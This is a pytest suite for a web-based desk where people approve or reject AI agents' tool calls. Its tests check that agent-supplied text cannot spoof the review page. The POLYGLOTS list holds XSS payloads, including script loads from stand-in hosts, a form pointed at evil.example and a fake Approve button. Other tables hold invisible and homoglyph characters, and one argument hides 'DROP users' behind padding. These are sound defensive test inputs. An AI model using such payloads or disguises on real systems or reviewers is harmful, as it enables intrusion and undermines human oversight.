        if given.get("class", "").startswith("card"):
            self.card = self.cards[given["id"].removeprefix("request-")] = {
                "text": "", "buttons": [], "depth": len(self.open)}
        elif tag == "button" and given.get("name") == "decision":
            self.card["buttons"].append(given["value"])
            self.card["before"] = self.card["text"]

    def handle_endtag(self, tag):
        self.tags.append(("/" + tag,))
        assert self.open.pop() == tag
        if len(self.open) < self.card.get("depth", 0):
            self.card = {"text": ""}

    def handle_data(self, data):
        if self.open[-1:] not in (["script"], ["style"]):
            self.text += data
            self.card["text"] += data


FULL = {"tool": "delete_records", "arguments": {"table": "users"},
        "agent": "billing", "checkpoint_id": "delete-records",
        "category": "destructive", "why": "it matches",
        "config_digest": "c" * 64}
BOTH = ["approved", "rejected"]
POLYGLOTS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "' onfocus='alert(1)' autofocus='", "</script><script src=//e.com>",
    "</pre><button name=decision value=approved>Approve</button>",
    "</textarea></form><form action=//evil.example>", "</h3></article>",
    "</style><style>*{display:none}</style>", "</title><base href=//e.com>",
    "<!--", "--><b>", "<![CDATA[", "{who}{main}{script}", "{", "}{0}%s\\1",
    "<mark>U+0041</mark>", "&lt;b&gt;&#60;i&#62;&amp;", "<svg/onload=x//",
    "\\\"><b>", "<details open ontoggle=x>", "<plaintext>", "<b", "<?php")


def everywhere(text: str) -> dict:
    """A request with this text in each of its eleven places."""
    return dict.fromkeys(FULL, text) | {
        "action_description": text, "arguments": {text: text},
        "agent_context": {text: text}}


def pages_of(desk, request_id: str) -> list[Page]:
    return [Page(desk.page(path)) for path in ("/", f"/review/{request_id}")]


def clicked(desk, request_id: str, decision: str, name: str = "ana",
            reason: str = "", age: float | None = 1) -> tuple[int, str]:
    """What the browser sends for a click on a card that was shown `age`
    seconds ago -> (status, page)."""
    form = {"decision": decision, "reason": reason}
    if age is not None:
        form["shown_at"] = hitl.instant(desk.clock() - age)
    status, _, data = desk.reviewer(name).fetch(
        "POST", f"/approve/{request_id}", urlencode(form).encode(),
        seconds=10, Content_Type="application/x-www-form-urlencoded",
        Accept="text/html", Origin=desk.url, Sec_Fetch_Site="same-origin")
    return status, data.decode()


HOSTILE = {
    "\u202e": "U+202E", "\u2066": "U+2066", "\u200b": "U+200B",
    "\ufeff": "U+FEFF", "\xad": "U+00AD", "\u2028": "U+2028",
    "\x1b[2J\x1b]0;x\a": "U+001B", "\0": "U+0000", "\r": "U+000D",
    "\x85": "U+0085", "\xa0": "U+00A0", "\u3000": "U+3000",
    "\U000e0041": "U+E0041", "\ufe0f": "U+FE0F", "\u3164": "U+3164",
    "\u2800": "U+2800", "\uff0f": "U+FF0F", "\u2215": "U+2215",
    "\u2014": "U+2014", "\u2019": "U+2019", " " * 20: "space x22",
    "\u27e6U+0041\u27e7": "U+27E6", "i\u0338d": "U+0338",
    "i\u20e5d": "U+20E5", "i\u1ab0d": "U+1AB0", "i\u0941d": "U+0941"}
WORDS = {"\u0430dmin": "\u27e6\u0430\u27e7", "7\u0435": "\u27e6\u0435\u27e7",
         "(\u0444\u0430\u0439\u043b)": "\u0444\u0430\u0439\u043b",
         "mv \u05d0 \u05d1": "\u05d1"}


def test_what_cannot_be_seen_is_shown(desk):
    """Invisible and direction-changing characters, control characters,
    dashes, quotes, marks that strike text out and padding are shown as codes,
    in every field; a word of another script is set apart, and in brackets
    where it touches a Latin letter or a digit."""
    desk.post(**everywhere(" | ".join((*HOSTILE, *WORDS))))
    for page in pages_of(desk, "r-1"):
        card = page.cards["r-1"]
        assert card["buttons"] == BOTH
        assert all(c == "\n" or c.isprintable() for c in page.source)
        for text, escape in HOSTILE.items():
            places = page.marks.count(escape)
            if text < " ":                      # JSON has its own for these
                places += card["text"].count(json.dumps(text[0])[1:-1])
            assert places >= 10, text
        for text, word in WORDS.items():
            assert page.words.count(word) >= 10, text


def test_two_calls_never_look_alike(desk):
    """A tool's name cannot imitate arguments: calls that differ look so."""
    calls = ({"tool": "read", "arguments": {}}, {"tool": "read"},
             {"tool": "read {}"}, {"arguments": {}}, {},
             {"tool": "read without arguments"})
    for number, call in enumerate(calls):
        desk.post(f"r-{number}", **call)
    seen = {" ".join(exact.split()) for exact in Page(desk.page()).exact}
    assert len(seen) == len(calls), seen


def test_arguments_are_rows_and_blocks(desk):
    """A short text is in quotes and a number is not; a text of several lines
    is a block with its size and its end marked; they come in the order sent,
    nothing can be read as another row, and padding is counted."""
    sent = {
        "z": "1", "b": 1, "body": "Dear Ana,\n\tyes\nend of body\nno: 1",
        "deep": {"x": [1, 2], "text": "one\ntwo", "more": ["y" * 60] * 2},
        "start": "\nleft", "pad": "tidy" + "\n" * 2000 + " " * 500 + "DROP users"}
    desk.post(tool="send", arguments=sent)
    exact = Page(desk.page()).exact[0]
    assert desk.state("r-1")["digest"] == hitl.digest_of(
        "Delete users where id = 3", hitl.canonical(sent), "send")
    lines = [line.strip() for line in exact.split("\n") if line.strip()]
    assert lines[:13] == [
        "Runs exactly this: send", 'z"1"', "b1",
        "body: text, 32 bytes, 4 lines", "Dear Ana,", "U+0009yes",
        "end of body", "no: 1end of body", "deep: 3 parts", "{", '"x": [1, 2],',
        '"text": "one\\n', 'two",'], lines
    assert desk.page().count("<pre>\n\nleft") == 1     # a parser drops one
    assert "tidyline break x2000space x500DROP usersend of pad" in exact


@pytest.mark.parametrize("part", ("action_description", "arguments",
                                  "agent_context"))
def test_a_large_request_is_decided_on_its_own_page(desk, part):
    """A row above 8 KiB gets a link to its own page and no buttons; there
    everything is, before the buttons, but the middle of a large context."""
    for name, text in (("1", "a" * 7500), ("2", "\u5b57" * 1200),
                       ("large-1", "a" * 60_000), ("large-2", "\u5b57" * 4000)):
        large, whole = "large" in name, name != "large-1" or part != "agent_context"
        desk.post(name, **{part: text if "_d" in part else {"text": text}})
        home, review = pages_of(desk, name)
        assert home.cards[name]["buttons"] == ([] if large else BOTH)
        assert (f'"/review/{name}"' in home.source) is large, name
        assert "DAMAGED" not in home.source + review.source
        assert review.cards[name]["buttons"] == BOTH
        before = review.cards[name]["before"]
        assert (text in before, "hitl.py show" in before) == (whole, not whole)
        assert whole or re.search(r'a"\}\s+All of it: ', before)      # its end
        assert "1 waiting" in re.sub(r"\s+", " ", review.text), review.text[:200]
        clicked(desk, name, "rejected")


DAMAGE = {"arguments": "{bad", "action_description": "Read one record",
          "tool": "read", "received_at": "never", "deadline": "soon"}


def test_a_bad_row_hides_no_other(desk):
    """One bad row never hides the others, from a person or a program; it
    has a page that says so, and no buttons."""
    for name in ("before", *DAMAGE, "after"):
        desk.post(name, timeout_seconds=60, **FULL)
    with contextlib.closing(sqlite3.connect(desk.database)) as db, db:
        db.execute("DROP TRIGGER asked_once")   # as a failing disk might
        for column, value in DAMAGE.items():
            db.execute(f"UPDATE pending_reviews SET {column} = ? "
                       "WHERE request_id = ?", (value, column))
    buttons = dict.fromkeys(DAMAGE, []) | {"before": BOTH, "after": BOTH}
    assert buttons == {name: card["buttons"] for name, card in Page(
        desk.page()).cards.items()}
    assert {"before", "after"} <= {row["request_id"] for row in desk.waiting(1)}
    for column in DAMAGE:
        page = Page(desk.page(f"/review/{column}"))
        assert page.cards[column]["buttons"] == []
    for column in ("arguments", "action_description", "tool"):
        assert desk.decide(column).reason == "damaged"
        assert desk.state(column)["status"] == "waiting"


def one_of_each(desk) -> None:
    """A request in each status, with all that a card can have."""
    desk.post("w-1", timeout_seconds=300, **FULL | {"tool": "a\u202eb"})
    desk.post("l-1", arguments={"x": "y" * 9000})
    for name, how in (("a-1", "approved"), ("b-1", "rejected")):
        desk.post(name)
        desk.decide(name, how, reason="because I say so")
    for name, why in (("e-1", "timeout"), ("c-1", "Ctrl-C")):
        desk.post(name)
        desk.agent().exchange("POST", f"/withdraw/{name}", {"why": why},
                              seconds=10)


def test_the_card_says_what_it_knows(desk):
    """Each status is a word, not a colour alone, with who decided and why;
    what the agent claims is apart from what the server knows, such as whether
    anybody waits, and how the same call was decided before."""
    one_of_each(desk)
    home = desk.page()
    for status in hitl.Status:
        assert re.search(f'class="(card )?{status}"[^>]*>\\s*(<summary>\\s*)?'
                         f'<span class="status">{status}</span>', home), status
    for words in ("reason: because I say so", "by ana (shared token)",
                  "5 min left", "nobody decided in time",
                  "nobody waited any more", "billing (unauthenticated agent)",
                  "nobody waits for it now: an approval runs nothing"):
        assert words in home
    view = hitl.View(at=desk.store.time + 999)          # the clock has run on
    late = hitl.review_page(view, desk.store.request("w-1", columns=hitl.WHOLE))
    assert ">0 s left<" in late
    desk.state("w-1")
    desk.post("b-2", agent="b")                 # as b-1 was, which is rejected
    desk.post("o-1", tool="other", agent_context=None)
    page = Page(desk.page()).text
    assert page.count("Context, ") == len(desk.waiting()) - 2   # large, and none
    assert "an agent waits for it" in page
    assert len(re.findall(r"the same call was rejected by ana \(shared token\) "
                          r"[0-9]+ s ago: because I say so", page)) == 1


def test_the_card_says_whose_rules_these_are(desk):
    """A checkpoint that the desk does not know, and one that differs from the
    desk's, are marks."""
    own = hitl.Rules((hitl.Checkpoint("known", "x", "x", digest="a" * 64),),
                     path=Path("x.toml"))
    desk.post()
    request = desk.store.request("r-1", columns=hitl.WHOLE)
    for name, digest, said in (
            ("known", "a", ""), ("known", "b", "rules and this desk&#x27;s differ"),
            ("other", "b", "this desk does not know the checkpoint &quot;other"),
            ("unmatched", "b", "")):
        marks = re.findall('<p class="warn rejected">(.*)</p>', hitl.review_page(
            hitl.View(rules=own), request._replace(
                checkpoint_id=name, checkpoint_digest=digest * 64)))
        assert len(marks) == bool(said) and said in "".join(marks)


def test_a_card_offers_what_the_rules_allow(desk):
    """A decision that stands and changed arguments are offered where they
    may be; the button says the rule it stores; a text with characters that
    cannot be seen has no field; who may not decide has no buttons."""
    desk.post(tool="send", arguments={"to": "ana", "n": 3, "x": "a\u200b",
                                      "text": "\n<b>\n\u0444"})
    request = desk.store.request("r-1", columns=hitl.WHOLE)
    for offers, buttons, words in (
            ({}, BOTH, ""), ({"decidable": False}, [], "only the reviewers that"),
            ({"remember": True, "editable": True, "files": True},
             [*BOTH, "approved", "approved"],
             "Approve, and the same call for 1 hour, at most 10 times, whatever "
             "its files contain by then")):
        page = Page(hitl.review_page(hitl.View(
            offers=lambda request: hitl.Offers(**offers)), request))
        assert page.cards["r-1"]["buttons"] == buttons and words in page.text
        assert ("label",) not in page.tags or "editable" in offers
    assert re.findall(r'name="(remember_\w+)"\s+value="(\d+)"', page.source) == [
        ("remember_seconds", "0"), ("remember_seconds", "3600"),
        ("remember_uses", "10")]
    assert re.findall(r'name="argument:(\w+)" rows="\d+">\n([^<]*)<', page.source
                      ) == [("to", "ana"), ("n", "3"), ("text", "\n&lt;b&gt;\n\u0444")]
    assert page.source.count('name="digest"') == 3


def test_what_stands_is_listed(desk):
    """Each standing decision with the call that it answers, its maker, its
    bounds, its use and a button that lifts it; a stop is a banner on every
    page."""
    desk.post()
    stop = hitl.Standing(7, "stopped", "reviewer:<ana>", hitl.instant(0),
                         reason="<wrong> plan")
    yes = hitl.Standing(3, "approved", "reviewer:ben", hitl.instant(0),
                        hitl.instant(3600), 10, "r-1")
    page = Page(hitl.standing_page(
        hitl.View("ben", stop=stop), [(stop, 0), (yes, 2)],
        {"r-1": desk.store.request("r-1")}))
    assert 'aria-label="Lift decision 3"' in page.source
    for words in ("Delete users where id = 3", "every call", "number 3", "since 01 Jan",
                  "<ana> stopped everything: <wrong> plan", "used 2 of 10",
                  "by ben", "those that no checkpoint names, go on"):
        assert words in " ".join(page.text.split()), words
    assert re.findall('action="/(lift/.|stop)"', page.source) == [
        "lift/7", "lift/7", "lift/3", "stop"]


def test_the_rule_to_paste_allows_this_call(desk, make_rules):
    """The card has the rule under which this call is not asked again; a call
    without arguments has none, since it would allow every one of the tool."""
    call = {"table": "users", "condition": "id = 'a\\b\u0430\" \n# \t+'"}
    desk.post(tool="delete_records", arguments=call)
    rule = re.search(r'\[\[checkpoint\]\].*?arguments = \{[^\n]* \}',
                     Page(desk.page()).text, re.DOTALL)[0]
    rules = make_rules(rule + RULES)
    for arguments, effect in ((call, "allow"), ({**call, "table": "user"},
                              "review"), ({"table": "users"}, "review")):
        assert rules.first_match("delete_records", arguments
                                 ).effect == effect
    desk.post("r-2", tool="deploy", arguments={})
    assert "[[checkpoint]]" not in desk.page("/review/r-2")


def test_every_request_is_reachable(desk):
    """What does not fit on the page is behind a link."""
    names = [f"r-{n:03}" for n in range(hitl.PAGE_CARDS + 2)]
    for name in names:
        desk.post(name, agent=name)
    home = desk.page()
    link, = re.findall(r'href="([^"]+)">2 more wait', home)
    behind = desk.page(link)
    assert [*Page(home).cards, *Page(behind).cards] == names
    assert "more wait" not in behind


def test_a_page_of_long_requests_is_bounded(desk):
    """The desk shows so many requests as 256 KB hold, and a link to the others;
    one that is too large for it shows as a link, and takes no room."""
    for n in range(60):
        desk.post(f"r-{n:02}", arguments={"b": "x" * (8000 if n % 4 else 9000)})
    names, links = [], ["/"]
    for link in links:
        page = desk.page(link)
        assert len(page) < 600_000
        names += Page(page).cards
        links += re.findall(r'href="([^"]+)">[0-9]+ more wait', page)
    assert len(links) == 2
    assert names == [f"r-{n:02}" for n in range(60)]


def test_the_history_is_searched(desk):
    """All words in any case, one status, and how far back was looked."""
    one_of_each(desk)
    for query, found in (
            ("", "abce"), ("q=USERS+ana", "ab"), ("q=users&status=rejected", "b"),
            ("q=100%25", "")):
        page = desk.page("/history?" + query)
        assert "Searched everything that was reviewed" in page
        assert sorted(re.findall(r'href="/review/(.)-1"', page)) == [*found], query
    assert 'value="&lt;\u0444"' in desk.page("/history?q=%3C%D1%84")


def test_a_card_is_read_before_it_is_decided(desk):
    """A form that was not shown for 0.6 s, or does not say, is refused, and
    its page has the request, the buttons and the reason that was typed; a
    second decision changes nothing, and its page says what was decided."""
    desk.post()
    for age in (0, 0.4, -5, None):
        status, source = clicked(desk, "r-1", "approved", "ana",
                                 "so & <so> \u2019\u0444", age)
        assert status == 409 and "look at it first" in source, age
        assert Page(source).cards["r-1"]["buttons"] == BOTH
        assert ">\nso &amp; &lt;so&gt; \u2019\u0444</textarea>" in source
    assert desk.state("r-1")["status"] == "waiting"
    assert clicked(desk, "r-1", "approved", age=0.61)[0] == 303
    status, page = clicked(desk, "r-1", "rejected", "ben", "so, then")
    assert status == 409
    for words in ("so, then", "approved by ana", "nothing was changed"):
        assert words in page
    assert desk.state("r-1")["decided_by"] == "reviewer:ana"


def test_the_policy_fits_the_page(desk):
    """The Content-Security-Policy allows the style and the script that are
    sent, by their hashes, and nothing else, on every page."""
    desk.post()
    for path in ("/", "/history", "/standing", "/review/r-1", "/review/none"):
        _, headers, data = desk.reviewer().fetch(
            "GET", path, seconds=10, Accept="text/html")
        source, policy = data.decode(), headers["Content-Security-Policy"]
        for tag in ("style", "script"):
            inside, = re.findall(f"<{tag}>(.*?)</{tag}>", source, re.DOTALL)
            assert f"{tag}-src {hitl.content_hash(inside)};" in policy
        assert policy.startswith("default-src 'none'")
        assert not [name for _, *names in Page(source).tags for name in names
                    if name == "style" or name.startswith("on")]


# ---- the same in Chromium ----

@pytest.fixture(scope="module")
def chromium():
    """One browser for all of them: it is slow to start."""
    it = Browser()
    yield it
    it.close()


@pytest.fixture
def look(chromium, desk):
    """Open a path of a desk, signed in -> the browser. The browser's log has
    nothing that the Content-Security-Policy forbade."""
    def at(path: str = "/", width: int = 1100, dark: bool = False,
           script: bool = True, desk=desk):
        chromium.cdp("Emulation.setDeviceMetricsOverride", width=width,
                     height=900, deviceScaleFactor=1, mobile=False)
        chromium.cdp("Emulation.setEmulatedMedia", features=[{
            "name": "prefers-color-scheme", "value": "dark" if dark else "light"}])
        chromium.cdp("Emulation.setScriptExecutionDisabled", value=not script)
        chromium.open(desk.url.replace(
            "://", f"://ana:{REVIEWER_TOKEN}@") + path)
        return chromium
    yield at
    said = chromium.ask("POST", chromium.session + "/se/log", {"type": "browser"})
    assert "Content Security Policy" not in str(said)
    chromium.cdp("Emulation.setScriptExecutionDisabled", value=False)
    chromium.open("about:blank")


HUES = {"waiting": (20, 50), "approved": (120, 165), "rejected": (-15, 15),
        "expired": None, "withdrawn": None}

# each text and how it stands out from its ground: [contrast, text] (WCAG 2.2)
CONTRAST = r"""
const rgb = c => c.match(/[\d.]+/g).map(n => c.startsWith("color(") ? n * 255 : +n);
const light = c => { const [r, g, b] = c.map(v => (v /= 255) <= .04045 ?
  v/12.92 : ((v + .055)/1.055)**2.4); return .2126*r + .7152*g + .0722*b; };
const ground = e => { const c = rgb(getComputedStyle(e).backgroundColor);
  return c[3] === 0 ? ground(e.parentElement) : c; };
const judge = (e, pseudo, text) => { const [a, b] = [
  light(rgb(getComputedStyle(e, pseudo).color)), light(ground(e))].sort(
  (x, y) => y - x); return [(a + .05)/(b + .05), text]; };
const text = e => [...e.childNodes].filter(n => n.nodeType === 3)
  .map(n => n.data).join("").trim();
const all = [...document.querySelectorAll("body, main *, header *")]
  .filter(e => e.checkVisibility());
return [...all.filter(text).map(e => judge(e, null, text(e))),
  ...all.filter(e => e.placeholder).map(
    e => judge(e, "::placeholder", "placeholder"))];
"""


@needs_browser
@pytest.mark.parametrize("dark", (False, True))
def test_colours_mean_one_thing(desk, look, dark):
    """Amber what waits, green approved, red rejected, grey expired or
    withdrawn; text stands out by 4.5 to 1; in the light and in the dark."""
    one_of_each(desk)
    for path in ("/review/none", "/review/w-1", "/"):
        page = look(path, dark=dark)
        found = page.run(CONTRAST)
        assert len(found) > 3 and not [f for f in found if f[0] < 4.5], path
    assert "placeholder" in [text for _, text in found]
    for status, hue in HUES.items():
        colour = page.run("return getComputedStyle(document.querySelector("
                          f"'.{status}')).borderLeftColor")
        h, s, _ = colorsys.rgb_to_hsv(*(
            int(n) / 255 for n in re.findall(r"\d+", colour)[:3]))
        degrees = (h * 360 + 180) % 360 - 180
        assert s < 0.15 if hue is None else (
            s > 0.4 and hue[0] <= degrees <= hue[1]), (status, colour)
    assert page.run("return getComputedStyle(document.body).backgroundColor") == (
        "rgb(22, 21, 19)" if dark else "rgb(246, 245, 242)")


@needs_browser
def test_a_request_fits_a_phone_and_forty_a_screen(desk, look):
    """A delete of two arguments with its buttons fits a phone's screen, forty
    requests one of a desktop; however long a word, a phone needs no sideways
    scrolling."""
    for n in range(40):
        desk.post(f"r-{n}", **FULL | {"agent": f"agent {n}", "session": "s",
                                      "timeout_seconds": 300, "arguments": CALL})
    bottom = ("return [...document.querySelectorAll(arguments[0])].pop()"
              ".getBoundingClientRect().bottom + scrollY")
    assert look("/", 390).run(bottom, "#request-r-0 .reject") < 844
    assert look("/", 1280).run(bottom, "summary .headline") < 1000
    width = ("document.querySelectorAll('details').forEach(d => d.open = "
             "true); return document.documentElement.scrollWidth")
    desk.post("wide", **everywhere("W" * 256))
    assert look("/review/wide", 390).run(width) <= 390
    desk.decide("wide", "rejected", reason="W" * 1000)
    for path in ("/", "/history"):
        assert look(path, 390).run(width) <= 390, path


def press(page, css: str, **typed: str) -> None:
    """Open all there is, put texts into fields and press a button, at once."""
    page.run("""
        document.querySelectorAll('details').forEach(d => d.open = true);
        for (const [name, text] of Object.entries(arguments[1])) {
          const field = document.querySelector(`[name="${name}"]`);
          text === "x" ? field.checked = true : field.value += text;
        }
        document.querySelector(arguments[0]).click()""", css, typed)


@needs_browser
@pytest.mark.parametrize("script", (True, False))
def test_a_person_decides(make_desk, make_rules, look, script):
    """With JavaScript or without: a reason, where Enter is a new line and
    decides nothing, then a decision; changed arguments, a decision that stands,
    one to be asked again, lifting one, stopping everything and lifting that."""
    clock = Clock()
    desk = make_desk(clock=clock, rules=make_rules(
        RULES.replace("[[checkpoint]]", "[[checkpoint]]\neditable = true")))
    call = FULL | {"edits": True, "arguments": {
        "table": "users", "n": 3, "text": "a\nb"}}
    for n in range(5):
        desk.post(f"r-{n}", **call, session=f"s{n}")

    def does(path: str, css: str, done, **typed) -> None:
        """Open a page, let time go by, and press a button, until it is done."""
        page = look(path, script=script, desk=desk)
        clock.time += 1
        page.run("DEAD = 0")
        press(page, css, **typed)
        assert until(done), page.text(".said")

    def decided(n: int):
        return lambda: desk.state(f"r-{n}")["status"] != "waiting"

    def standing() -> list[tuple]:
        return [(row.decision, row.request_id) for row, _ in desk.store.standing()]
    page = look(script=script, desk=desk)
    assert page.run("return [...document.querySelectorAll('.card')].map("
                    "c => c.open)") == [True, False, False, False, False]
    page.type("#request-r-0 textarea", "no\nnot this\n")
    clock.time += 1
    page.run("DEAD = 0; document.querySelector('#request-r-0 .reject').click()")
    assert until(lambda: "reason: no" in page.text("#reviewed"))
    assert desk.state("r-0")["reason"].split() == ["no", "not", "this"]
    assert (" UTC" in page.text("#reviewed time")) is not script
    does("/review/r-1", "#edit-r-1 button", decided(1),
         **{"argument:n": "0", "argument:text": "\nc"})
    assert "changed by ana: {n: 3 -> 30, text: (3 bytes) -> (5 bytes)}" in Page(
        desk.page("/review/r-1")).text
    assert json.loads(desk.rows("SELECT approved_arguments FROM pending_reviews "
                                "WHERE request_id = 'r-1'")[0][0]) == {
        "table": "users", "n": 30, "text": "a\nb\nc"}
    does("/review/r-2", "#remember-r-2 button", decided(2), reason="for today")
    assert (desk.state("r-2").get("reason") == "for today") is script
    does("/review/r-3", "#decide-r-3 .reject", decided(3), remember_seconds="x")
    does("/review/r-4", "#decide-r-4 .reject", decided(4))
    assert standing() == [("rejected", "r-4"), ("approved", "r-2"),
                          ("rejected", "r-0")]
    again = desk.post("r-5", **call, session="s2").body
    assert (again["status"], again["decided_by"]) == ("approved", "reviewer:ana")
    assert "standing decision 2" in desk.page("/review/r-5")
    does("/standing", "li button", lambda: len(standing()) == 2)
    assert standing() == [("approved", "r-2"), ("rejected", "r-0")]
    does("/", "footer .reject", lambda: ("stopped", None) in standing(),
         reason="wrong plan")
    assert "ana stopped everything: wrong plan" in desk.page()
    does("/", "#stopped button", lambda: ("stopped", None) not in standing())


@needs_browser
def test_a_change_is_not_left_behind(make_desk, make_rules, look):
    """While an argument is changed on a card, its other Approve buttons decide
    nothing and say why; undone, they do."""
    clock = Clock()
    desk = make_desk(clock=clock, rules=make_rules(
        RULES.replace("[[checkpoint]]", "[[checkpoint]]\neditable = true")))
    desk.post("r-1", **FULL | {"edits": True, "arguments": {"n": 3}}, session="s")
    page = look("/review/r-1", desk=desk)
    clock.time += 1
    page.run("DEAD = 0")
    for css in "#decide-r-1 .approve", "#remember-r-1 button":
        press(page, css, **{"argument:n": "0"})
        assert until(lambda: "Not decided: you changed" in page.text(".said")), css
        page.run("document.querySelector('.said').textContent = ''")
    assert desk.state("r-1")["status"] == "waiting"
    page.run("document.querySelector('[name=\"argument:n\"]').value = '3'")
    press(page, "#decide-r-1 .approve")
    assert until(lambda: desk.state("r-1")["status"] == "approved")
    assert desk.state("r-1").get("approved_digest") is None


def top(page, name: str) -> float:
    return page.run("return document.getElementById('request-' + arguments[0])"
                    ".getBoundingClientRect().top", name)


def alive(page, clock: Clock | None = None) -> bool:
    """Open all cards and wait until their buttons are no longer dead, or turn
    the desk's clock."""
    page.run("for (const c of document.querySelectorAll('.card')) "
             "{ c.open = true; c.since = performance.now(); }")
    if clock:
        clock.time += 1
        page.run("DEAD = 0")
    return until(lambda: page.run(
        "return [...document.querySelectorAll('.card')].every(c => "
        "performance.now() - c.since > DEAD)"))


def posts(page, script: str) -> int:
    """Run a script in the page -> how many decisions it sent."""
    return page.run("const real = fetch; let posts = 0; window.fetch = "
                    "(path, more) => { posts += more.method === 'POST'; "
                    "return real(path, more); };" + script + "window.fetch = real; "
                    "return posts")


@needs_browser
def test_a_double_click_decides_one_request(desk, look):
    """Two clicks at one point, at once or 50 to 500 ms apart, decide one
    request, and no other card moves; a page that was read before brings no
    buttons back. A button that has just appeared is dead."""
    for n in range(4):
        desk.post(f"r-{n}")
    page = look()
    assert alive(page)
    page.run("return read('/').then(page => { window.before = page; })")
    last, press = top(page, "r-3"), [{"type": "pointerDown", "button": 0},
                                     {"type": "pointerUp", "button": 0}]
    for n, gap in enumerate((50, 500)):
        x, y = page.run(f"const b = document.querySelector('#decide-r-{n} .approve')"
                        ".getBoundingClientRect(); return [b.x + 9, b.y + 9]")
        page.act("pointer", {"type": "pointerMove", "x": int(x), "y": int(y)},
                 *press, {"type": "pause", "duration": gap}, *press)
        assert until(lambda n=n: "approved by ana" in page.text(
            f"#request-r-{n} .said"))
        assert len(desk.waiting(3 - n)) == 3 - n
        assert top(page, "r-3") == last
    page.run("renew(document.getElementById('request-r-0'), before)")
    assert "approved by ana" in page.text("#request-r-0 .said")
    click = "document.querySelector('#decide-r-{} .approve').click();"
    assert posts(page, click.format(2) * 2) == 1
    page.run("document.getElementById('request-r-3').open = false")
    page.click("#request-r-3 summary")
    assert posts(page, click.format(3)) == 0


@needs_browser
def test_a_new_card_appears_at_once(desk, look):
    """A new card is on an open page within 200 ms of its 201, below the
    others; it clears no reason being typed, and however many there are, they
    move no card that was there."""
    desk.post("b-1", agent="b")
    desk.post("b-2", agent="b", arguments={"large": "x" * 9000})
    page, took = look(), []
    page.type("#request-b-1 textarea", "half a rea")
    before = top(page, "b-1"), top(page, "b-2")
    page.run("window.seen = {}; new MutationObserver(() => document"
             ".querySelectorAll('.card').forEach(c => seen[c.id] ??= "
             "Date.now())).observe(document.body, {childList: true, "
             "subtree: true})")
    for n in range(12):
        desk.post(f"a-{n}", agent=f"a{n}")
        stored = time.time()
        assert until(lambda n=n: page.run(f"return seen['request-a-{n}']"))
        took.append(page.run(f"return seen['request-a-{n}']") / 1000 - stored)
    assert min(took) < 0.2, took
    page.type("#request-b-1 textarea", "son")
    assert page.run("const e = document.activeElement; return [e.name, "
                    "e.value]") == ["reason", "half a reason"]
    assert (top(page, "b-1"), top(page, "b-2")) == before
    assert page.run("return document.title") == "(14) Review desk"


@needs_browser
def test_an_open_page_stays_true(make_desk, look):
    """Times left run by themselves; where nothing changed, a card still says
    that nobody waits for it any more."""
    desk = make_desk(clock=Clock())
    desk.post("r-0", timeout_seconds=100)
    desk.post("r-9")
    desk.state("r-0")
    page = look(desk=desk)
    assert "an agent waits" in page.text(".who")
    assert until(lambda: re.fullmatch("9. s left", page.text(".left")))
    assert page.text("#request-r-9 .left") == "no deadline"
    desk.server.desk.polled_until.clear()
    page.run("refresh()")
    assert until(lambda: "nobody waits" in page.text(".who"))
    desk.decide("r-0", "rejected")          # the same call as r-9, which is closed
    assert until(lambda: page.run(
        "return document.querySelector('#request-r-9 .warn')?.textContent || ''"
        ).startswith("the same call was rejected by ana"))


@needs_browser
def test_a_typed_reason_is_never_lost(make_desk, look):
    """Not by another's decision, seen at once or only by a late click, a
    server that is away, one that is back, or a page that is loaded again."""
    desk = make_desk(clock=Clock())
    for n in range(3):
        desk.post(f"r-{n}")
    page = look(desk=desk)
    assert alive(page, desk.clock)
    page.run("REST = 100")
    before = top(page, "r-2")
    for n in range(3):
        page.type(f"#request-r-{n} textarea", f"because {n}")

    def said(n: int, *words: str) -> bool:
        return until(lambda: all(word in page.text(f"#request-r-{n} .said")
                                 for word in words))
    desk.decide("r-0", "rejected")
    assert said(0, "rejected by ana", "You had typed: because 0")
    page.run("window.real = refresh; refresh = async () => {}")
    desk.decide("r-1", "rejected")
    page.click("#decide-r-1 .approve")
    assert said(1, "rejected by ana", "You had typed: because 1",
                "Not decided: this request was rejected by ana")
    page.run("refresh = real")
    desk.stop()
    page.click("#decide-r-2 .reject")
    assert said(2, "The server does not answer. Your reason is kept")
    hidden = "return document.querySelector('#lost').hidden"
    assert until(lambda: not page.run(hidden))
    desk.start(desk.port)
    assert until(lambda: page.run(hidden))
    assert top(page, "r-2") == before
    look(desk=desk)
    assert alive(page, desk.clock)
    page.click("#decide-r-2 .reject")
    assert said(2, "rejected by ana", "reason: because 2")


@needs_browser
def test_a_hidden_tab_stays_true(desk, look):
    """A hidden tab, which holds no poll, has the number of what waits in its
    title, a coloured icon, and a notification where that is allowed; the first
    request is open, and a stop is said."""
    page = look()
    icon = "return document.querySelector('link[rel=icon]').href"
    grey = page.run(icon)
    assert "Nothing waits" in page.text()
    assert until(lambda: "" in desk.server.waiters)     # a visible one holds it
    page.run("""
        REST = 100;
        window.Notification = class { static permission = "granted";
          constructor(title) { window.told = title; } };
        Object.defineProperty(document, "hidden", {value: true});
        document.dispatchEvent(new Event("visibilitychange"))""")
    assert until(lambda: "" not in desk.server.waiters)
    desk.post()
    assert until(lambda: page.run("return window.told") == "(1) Review desk", 15)
    assert page.run("return document.title") == "(1) Review desk"
    assert page.run(icon) != grey and page.text("#count") == "1 waiting"
    assert "Nothing waits" not in page.text() and page.text(".approve")
    desk.reviewer().exchange("POST", "/stop", {"reason": "wrong plan"}, seconds=10)
    assert until(lambda: "ana stopped everything: wrong plan" in page.text())


@needs_browser
def test_the_keyboard_decides(make_desk, look):
    """j and k move, Enter opens and brings all of a card into view, a then
    Enter approves, r goes to the reason and Enter rejects, / searches, ? says
    so."""
    desk = make_desk(clock=Clock())
    for n in range(3):
        desk.post(f"r-{n}", arguments={"text": "line\n" * 20})
    page = look(desk=desk)

    def keys(*keys: str) -> None:
        page.act("key", *({"type": f"key{way}", "value": key}
                          for key in keys for way in ("Down", "Up")))
    assert page.run("document.body.dispatchEvent(new KeyboardEvent('keydown', {key: "
                    "'r', ctrlKey: true, bubbles: true})); return "
                    "document.activeElement.name") != "reason"      # it reloads
    keys("j", "j", "k", "j", "\ue007")          # Enter
    assert until(lambda: page.run(
        "const card = document.getElementById('request-r-1');"
        "return card.open && card.getBoundingClientRect().bottom < innerHeight + 1"))
    assert alive(page, desk.clock)
    keys("a", "\ue007")
    assert until(lambda: "approved by ana" in page.text("#request-r-1 .said"))
    keys("j", "r", "n", "o", "j", "\ue007")
